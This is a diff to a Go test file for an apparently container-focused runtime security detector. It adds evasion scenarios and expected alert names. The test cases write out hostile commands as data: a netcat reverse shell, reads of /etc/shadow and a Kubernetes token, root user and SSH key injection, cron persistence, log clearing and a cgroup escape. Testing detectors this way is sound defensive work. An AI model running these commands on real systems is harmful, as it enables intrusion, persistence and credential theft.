@@ -107,7 +107,7 @@ func TestAttackScenarios(t *testing.T) {
 	}{
 		{"sensitive-read", nil, "cat /etc/shadow", []string{"Read sensitive file untrusted"}, nil},
 		{"binary-dir-write", nil, "echo x > /bin/evil", []string{"Write below binary dir"}, nil},
-		{"outbound", nil, "nc -w 1 " + lip + " 8080 </dev/null", []string{"Unexpected outbound connection destination"}, nil},
+		{"outbound", nil, "nc -w 1 " + lip + " 8080 </dev/null", []string{"Unexpected outbound connection destination", "Network tool run in container"}, nil},
 		{"runtime-socket", append([]string{"-v", "/var/run/docker.sock:/var/run/docker.sock"}, mountAttacker...), "/attacker/attacker unix /var/run/docker.sock", []string{"Container runtime socket access from container"}, nil},
 		{"mount", nil, "mount -t tmpfs none /mnt", []string{"Mount in container"}, nil},
 		{"release-agent", nil, "mkdir -p /tmp/cgrp && echo /evil > /tmp/cgrp/release_agent", []string{"Cgroup release_agent or notify_on_release write"}, nil},
@@ -125,15 +125,22 @@ func TestAttackScenarios(t *testing.T) {
 		{"su", nil, "", []string{"Sudo or su in container"}, []string{"su", "-c", "true", "root"}},
 		{"drift", nil, "cp /bin/busybox /tmp/bb && /tmp/bb true", []string{"Drift detected (exec of a file created in the container)"}, nil},
 		{"memfd", mountAttacker, "/attacker/attacker memfd", []string{"Fileless or shared-memory execution"}, nil},
-		{"reverse-shell", nil, "nc -w 2 " + lip + " 9001 -e /bin/sh", []string{"Reverse shell", "Unexpected outbound connection destination"}, nil},
-		{"miner", nil, "nc -w 1 " + lip + " 3333 </dev/null", []string{"Crypto-miner pool connection", "Unexpected outbound connection destination"}, nil},
+		{"reverse-shell", nil, "nc -w 2 " + lip + " 9001 -e /bin/sh", []string{"Reverse shell", "Unexpected outbound connection destination", "Network tool run in container"}, nil},
+		{"miner", nil, "nc -w 1 " + lip + " 3333 </dev/null", []string{"Crypto-miner pool connection", "Unexpected outbound connection destination", "Network tool run in container"}, nil},
 		{"package-manager", []string{"-v", attacker + ":/usr/bin/apt-get:ro"}, "/usr/bin/apt-get install nmap; true", []string{"Package manager in container"}, nil},
 		{"passwd-write", nil, "echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd", []string{"Write to user database"}, nil},
 		{"authorized-keys", nil, "mkdir -p /root/.ssh && echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys", []string{"Write to SSH authorized_keys"}, nil},
 		{"cron", nil, "mkdir -p /etc/cron.d && echo '* * * * * root sh' > /etc/cron.d/evil", []string{"Write to cron"}, nil},
 		{"log-clearing", nil, "mkdir -p /var/log && : > /var/log/auth.log", []string{"Log clearing"}, nil},
 		{"sa-token", []string{"-v", token + ":/var/run/secrets/kubernetes.io/serviceaccount/token:ro"}, "", []string{"Kubernetes service account token read"}, []string{"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"}},
-		{"api-server", nil, "nc -w 1 " + lip + " 6443 </dev/null", []string{"Contact Kubernetes API server from container", "Unexpected outbound connection destination"}, nil},
+		{"api-server", nil, "nc -w 1 " + lip + " 6443 </dev/null", []string{"Contact Kubernetes API server from container", "Unexpected outbound connection destination", "Network tool run in container"}, nil},
+		// Evasions of name-only rules (issue 17): a script run through an
+		// interpreter from /dev/shm, busybox's shell named by its first
+		// argument, and hard links to a credential file and to a binary.
+		{"shm-script", nil, "echo 'echo hi' > /dev/shm/x.sh; sh /dev/shm/x.sh", []string{"Interpreter running a script from a suspicious location"}, nil},
+		{"busybox-shm-script", nil, "echo 'echo hi' > /dev/shm/x.sh; busybox sh /dev/shm/x.sh", []string{"Interpreter running a script from a suspicious location"}, nil},
+		{"hardlink-shadow", nil, "ln /etc/shadow /tmp/h", []string{"Hard link over sensitive files"}, nil},
+		{"hardlink-binary", nil, "ln /bin/busybox /tmp/victim", []string{"Hard link over sensitive files"}, nil},
 	}
 	for _, sc := range scenarios {
 		t.Run(sc.name, func(t *testing.T) {
@@ -150,14 +157,29 @@ func TestAttackScenarios(t *testing.T) {
 		})
 	}
 
-	// An interactive shell through docker exec -t (not the entrypoint).
-	t.Run("terminal-shell", func(t *testing.T) {
-		name := run + "-terminal"
-		docker(t, "run", "-d", "--name", name, img, "sleep", "30")
-		defer exec.Command("docker", "rm", "-f", name).Run()
-		exec.Command("docker", "exec", "-t", name, "sh", "-c", "true").Run()
-		checkAlerts(t, &stdout, name, []string{"Terminal shell in container"})
-	})
+	// An interactive shell through docker exec -t (not the entrypoint):
+	// by name, as `busybox sh` (argv[0] is busybox), and a real bash run
+	// through a symlink named notashell.
+	bashImg := testutil.RequireBashImage(t)
+	for _, tc := range []struct {
+		name, image, setup string
+		shell              []string
+	}{
+		{"terminal-shell", img, "", []string{"sh", "-c", "true"}},
+		{"terminal-busybox-sh", img, "", []string{"busybox", "sh", "-c", "true"}},
+		{"terminal-notashell", bashImg, "ln -s /bin/bash /tmp/notashell", []string{"/tmp/notashell", "-c", "true"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			name := run + "-" + tc.name
+			docker(t, "run", "-d", "--name", name, tc.image, "sleep", "30")
+			defer exec.Command("docker", "rm", "-f", name).Run()
+			if tc.setup != "" {
+				docker(t, "exec", name, "sh", "-c", tc.setup)
+			}
+			exec.Command("docker", append([]string{"exec", "-t", name}, tc.shell...)...).Run()
+			checkAlerts(t, &stdout, name, []string{"Terminal shell in container"})
+		})
+	}
 
 	cancel()
 	if c := <-done; c != 0 {
